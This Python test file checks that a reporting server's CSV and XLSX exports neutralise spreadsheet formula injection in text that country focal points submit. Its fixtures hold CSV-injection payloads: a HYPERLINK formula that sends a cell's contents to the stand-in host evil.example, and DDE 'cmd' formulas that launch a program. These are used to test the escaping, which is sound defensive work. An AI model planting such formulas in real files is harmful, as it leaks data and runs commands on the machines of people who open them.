"""The secretariat's exports (CSV and XLSX) never hand a spreadsheet a formula: the same escape
as the client's exports (desktop.domain.spreadsheet), on text a focal point pushed."""

from __future__ import annotations

import csv

import openpyxl
import pytest

from desktop.domain.spreadsheet import FORMULA_STARTS
from server_stub.review.export import DEFAULT_STATES, Sheets, collect, write_export

LINK = '=HYPERLINK("http://evil.example/?"&A2,"Open map")'
PUSHED = [LINK, "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)"]
EVERY_START = [*PUSHED, "\t=1+1", "\r=1+1", "\n=1+1"]


def assert_inert(value) -> None:
    if isinstance(value, str) and value:
        assert not value.startswith(FORMULA_STARTS), repr(value)


def csv_rows(path) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as handle:
        return list(csv.reader(handle))


@pytest.fixture
def exported(sqlite_server, make):
    """A submitted report whose answer and initiative fields start with each formula start."""
    server = sqlite_server
    server.sample_campaign()
    focal = server.person("focal.sn@example.org", "focal_point", "SN")
    initiatives = [
        {**make.initiative(), "title": f"{text} {n}", "implementing_organisations": [text]}
        for n, text in enumerate(PUSHED)
    ]
    answers = {**make.answers(), "general.institution": LINK}
    report = make.report("SN", state="submitted", answers=answers, initiatives=initiatives)
    assert server.push(focal, make.mutation("country_report", report))[0]["status"] == "applied"
    return collect(server.engine, None, DEFAULT_STATES)


def test_csv_export_of_pushed_reports_is_inert(exported, tmp_path):
    written = write_export(exported, tmp_path / "reports.csv", "csv")
    reports, initiatives = (csv_rows(path) for path in written)
    header, row = reports
    assert dict(zip(header, row, strict=True))["general.institution"] == "'" + LINK
    titles = [dict(zip(initiatives[0], r, strict=True))["title"] for r in initiatives[1:]]
    assert titles == [f"'{text} {n}" for n, text in enumerate(PUSHED)]
    for table in (reports, initiatives):
        for line in table:
            for cell in line:
                assert_inert(cell)


def test_xlsx_export_of_pushed_reports_is_text_with_the_quote(exported, tmp_path):
    [path] = write_export(exported, tmp_path / "reports.xlsx", "xlsx")
    book = openpyxl.load_workbook(path)
    header = [c.value for c in book["Reports"][1]]
    cell = book["Reports"].cell(row=2, column=header.index("general.institution") + 1)
    assert (cell.data_type, cell.value) == ("s", "'" + LINK)
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f"
                assert_inert(cell.value)


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
@pytest.mark.parametrize("text", EVERY_START)
def test_every_formula_start_is_escaped_in_each_format(tmp_path, fmt, text):
    sheets = Sheets(["report_id", "title"], [["r1", text]], ["report_id", "title"], [["r1", text]])
    written = write_export(sheets, tmp_path / f"reports.{fmt}", fmt)
    if fmt == "csv":
        for path in written:
            assert csv_rows(path)[1][1] == "'" + text
        return
    book = openpyxl.load_workbook(written[0])
    for title in ("Reports", "Initiatives"):
        cell = book[title].cell(row=2, column=2)
        # XML reads a carriage return back as a line feed; the quote comes before either.
        assert (cell.data_type, cell.value) == ("s", "'" + text.replace("\r", "\n"))


def test_control_characters_xml_cannot_hold_are_dropped_before_the_escape(tmp_path):
    """A pushed text may hold characters an XLSX file cannot (openpyxl refuses them): they are
    left out, and what then starts the cell is escaped like any other text."""
    sheets = Sheets(["title"], [["\x01=1+1"]], ["title"], [])
    [path] = write_export(sheets, tmp_path / "reports.xlsx", "xlsx")
    cell = openpyxl.load_workbook(path)["Reports"].cell(row=2, column=1)
    assert (cell.data_type, cell.value) == ("s", "'=1+1")
